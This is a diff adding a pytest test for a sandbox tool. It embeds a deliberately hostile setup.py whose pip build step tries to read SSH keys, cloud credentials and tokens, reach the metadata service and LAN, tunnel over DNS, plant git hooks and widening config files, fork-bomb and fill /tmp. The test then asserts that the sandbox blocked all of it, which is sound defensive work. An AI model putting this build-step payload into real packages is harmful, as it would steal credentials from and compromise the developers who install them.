@@ -590,3 +590,143 @@ def test_the_hostile_package_gets_nothing_and_the_next_run_is_no_wider(boxy: Box
         server.close()
         agent.unlink(missing_ok=True)
         subprocess.run(["pkill", "-u", str(user.uid), "-x", "sleep"], check=False)
+
+
+# --- the hostile sdist, end to end (pip) -------------------------------------------------------
+
+HOSTILE_SETUP = r'''# setup.py of a hostile sdist: its build step tries what a hostile package would,
+# and says ESCAPED:<what> for anything that works. HOSTILE-RAN proves it ran at all.
+import json, os, random, socket, struct, subprocess, sys
+t = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "targets.json")))
+out = []
+def say(s):
+    out.append(s); print(s, flush=True)
+say("HOSTILE-RAN")
+for p in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".pypirc", ".config/pip/pip.conf"):
+    try:
+        open(os.path.join(t["home"], p), "rb").read(); say("ESCAPED:read-" + p)
+    except OSError:
+        pass
+for k, v in os.environ.items():
+    if t["marker"] in v:
+        say("ESCAPED:env-" + k)
+for p in (".env", ".pypirc"):
+    try:
+        if t["marker"] in open(os.path.join(t["root"], p)).read():
+            say("ESCAPED:project-" + p)
+    except OSError:
+        pass
+def connect(label, family, addr):
+    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(4)
+    try:
+        s.connect(addr)
+        if label != "agent":
+            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
+        if s.recv(1) or label == "agent":
+            say("ESCAPED:" + label)
+    except OSError:
+        pass
+    finally:
+        s.close()
+connect("agent", socket.AF_UNIX, t["agent"])
+connect("metadata", socket.AF_INET, ("169.254.169.254", 80))
+connect("lan", socket.AF_INET, ("192.168.1.1", 80))
+try:
+    addr = socket.getaddrinfo(t["extra"], 443, type=socket.SOCK_STREAM)[0][4]
+    say("ESCAPED:resolved-" + t["extra"]); connect("extra", socket.AF_INET, addr[:2])
+except OSError:
+    pass
+def txt_query(name):  # a DNS tunnel: TXT for an encoded label, to the sandbox's resolver
+    ns = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
+    q = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0" + struct.pack(">HH", 16, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(4)
+    try:
+        s.sendto(q, (ns, 53)); r = s.recv(4096)
+        return (r[3] & 0x0F) == 0 and struct.unpack(">H", r[6:8])[0] > 0
+    except OSError:
+        return False
+    finally:
+        s.close()
+if txt_query("6578666967." + t["extra"]):
+    say("ESCAPED:dns-tunnel")
+for label, path, text in (("git-hook", ".git/hooks/pre-commit", "#!/bin/sh\n"),
+                          ("git-config", ".git/config", "[core]\n\thooksPath = /tmp\n")):
+    try:
+        open(os.path.join(t["root"], path), "a").write(text); say("ESCAPED:" + label)
+    except OSError:
+        pass
+# these land (the work directory is writable); the next run must not be any wider
+for p, text in ((".boxy.yaml", 'net: public\nallow_hosts: ["%s"]\n' % t["extra"]),
+                ("pip.conf", "[global]\nindex-url = https://%s/simple\n" % t["extra"])):
+    try:
+        open(os.path.join(t["root"], p), "a").write(text); say("planted " + p)
+    except OSError:
+        pass
+kids = []
+try:
+    for _ in range(5000):
+        kids.append(subprocess.Popen(["sleep", "30"]))
+except OSError as e:
+    say("fork-refused %s" % e.errno)
+try:
+    big = b"\0" * (64 << 20)
+    for i in range(256):
+        open("/tmp/fill%d" % i, "wb").write(big)
+except OSError as e:
+    say("filled-tmp %s" % ("ENOSPC" if e.errno == 28 else e.errno))
+for i in range(256):  # the build itself needs /tmp and a few processes afterwards
+    try:
+        os.unlink("/tmp/fill%d" % i)
+    except OSError:
+        pass
+for k in kids:
+    k.kill()
+    k.wait()
+json.dump(out, open(os.path.join(t["root"], "hostile-report.json"), "w"))
+from setuptools import setup
+setup(name="boxy-hostile", version="1.0.0", py_modules=[])
+'''
+
+
+def test_the_hostile_sdist_gets_nothing_and_the_next_run_is_no_wider(boxy: Boxy, user: User) -> None:
+    hosts, flags = pip_setup(boxy)
+    need_npm()  # the other registry is npm's
+    extra = extra_host(boxy.user, hosts, ["npm_registry"])
+    marker = "boxyHOSTILEmarker"
+    subprocess.run(["git", "init", "-q", str(boxy.workdir)], check=True)
+    write(boxy, ".env", f"PYPI_TOKEN={marker}\n")
+    write(boxy, ".pypirc", f"[pypi]\npassword = {marker}\n")
+    agent = user.home / f".boxy-agent-{os.getpid()}.sock"
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(str(agent))
+    server.listen()
+    os.chown(agent, user.uid, user.gid)
+    write(boxy, "hostile-sdist/setup.py", HOSTILE_SETUP)
+    write(boxy, "hostile-sdist/targets.json", json.dumps(
+        {"home": str(user.home), "marker": marker, "agent": str(agent), "extra": extra,
+         "root": str(boxy.workdir)}))
+    env = {"PYPI_TOKEN": marker, "GITHUB_TOKEN": marker, "SSH_AUTH_SOCK": str(agent)}
+    install = ("python3 -m pip install --no-input -v --no-build-isolation --target ./site "
+               f"./hostile-sdist {SMALL_PIP}")
+    try:
+        r = boxy.run(*flags, "--pids", "256", "--memory", "512MiB", cmd=["sh", "-c", install],
+                     timeout=TIMEOUT, input=b"", extra_env=env)
+        check_pip_installed(boxy, r, hosts)
+        assert "HOSTILE-RAN" in out(r) + err(r), f"the hostile build step never ran\n{both(r)}"
+        report = json.loads((boxy.workdir / "hostile-report.json").read_text())
+        assert not [x for x in report if x.startswith("ESCAPED")], f"{report}\n{both(r)}"
+        assert "filled-tmp ENOSPC" in report, report  # the scratch tmpfs is bounded
+        assert any(x.startswith("fork-refused") for x in report), report  # --pids held
+        assert "ESCAPED" not in out(r) + err(r), both(r)
+        first = policy_record(audit(boxy))
+        (boxy.workdir / "audit.jsonl").unlink()
+        r2 = boxy.run(*flags, cmd=["true"], timeout=TIMEOUT, input=b"")  # what it planted: nothing
+        assert r2.returncode == 0, both(r2)
+        second = policy_record(audit(boxy))
+        assert (second["mode"], second["allow_hosts"]) == (first["mode"], first["allow_hosts"])
+        assert not (boxy.workdir / ".git/hooks/pre-commit").exists()
+    finally:
+        server.close()
+        agent.unlink(missing_ok=True)
+        subprocess.run(["pkill", "-u", str(user.uid), "-x", "sleep"], check=False)
